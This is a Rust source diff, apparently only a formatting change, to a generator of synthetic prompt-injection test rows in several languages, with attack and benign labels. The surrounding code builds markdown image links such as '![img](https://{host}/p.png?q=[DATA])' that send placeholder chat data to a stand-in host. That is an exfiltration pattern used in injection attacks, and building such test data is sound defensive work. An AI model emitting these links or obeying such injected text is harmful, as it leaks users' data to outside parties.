@@ -277,7 +277,9 @@ fn harm(rng: &mut Rng, lex: &Lexicon, slots: &mut Vec<String>) -> Option<()> {
 
 /// A plain object for a request (what is sent or deleted), language-neutral.
 fn filler_noun(rng: &mut Rng) -> String {
-    const NOUNS: &[&str] = &["files", "emails", "contacts", "photos", "orders", "inbox", "data", "history"];
+    const NOUNS: &[&str] = &[
+        "files", "emails", "contacts", "photos", "orders", "inbox", "data", "history",
+    ];
     rng.pick(NOUNS).copied().unwrap_or("files").to_owned()
 }
 
@@ -357,7 +359,15 @@ fn build_slots(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<Vec<String>
             }
             t(rng, "action", &mut slots)?;
             let host = rng.pick(HOSTS).copied().unwrap_or("x.example");
-            let ph = ["[DATA]", "{data}", "SUMMARY", "<chat>", "[INFO]", "%HISTORY%", "{{log}}"];
+            let ph = [
+                "[DATA]",
+                "{data}",
+                "SUMMARY",
+                "<chat>",
+                "[INFO]",
+                "%HISTORY%",
+                "{{log}}",
+            ];
             let p = rng.pick(&ph).copied().unwrap_or("[DATA]");
             let link = match rng.below(3) {
                 0 => format!("![img](https://{host}/p.png?q={p})"),
@@ -603,7 +613,12 @@ pub fn generate(seed: u64, per_cell: usize) -> Vec<Row> {
                 }
                 phrase(&mut rng, &slots)
             } else {
-                let kind = ["benign-human", "benign-account", "benign-data", "benign-task"];
+                let kind = [
+                    "benign-human",
+                    "benign-account",
+                    "benign-data",
+                    "benign-task",
+                ];
                 match rng.below(3) {
                     0 => {
                         let n = 1 + rng.below(3);
@@ -621,7 +636,11 @@ pub fn generate(seed: u64, per_cell: usize) -> Vec<Row> {
             rows.push(Row {
                 text,
                 injection: attack,
-                family: if attack { "hidden-attack" } else { "benign-hidden" },
+                family: if attack {
+                    "hidden-attack"
+                } else {
+                    "benign-hidden"
+                },
                 language: lex.code,
                 carrier: "view",
                 hidden: true,
